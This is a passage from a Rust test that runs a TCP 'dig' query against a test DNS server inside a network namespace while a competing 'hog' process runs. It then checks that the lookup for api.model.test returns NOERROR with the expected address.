    assert!(line.starts_with("holding"), "{line}");
    let out = b
        .run(
            &ns,
            "dig",
            &[
                "+tcp",
                "+time=3",
                "+tries=1",
                "@198.51.100.53",
                "api.model.test",
            ],
        )
        .unwrap();
    let _ = hog.kill();
    let _ = hog.wait();
    let said = String::from_utf8_lossy(&out.stdout);
    assert_eq!(status(&said), "NOERROR", "agent A {line}: B got {said}");
    assert!(said.contains("198.51.100.1"), "{said}");
}
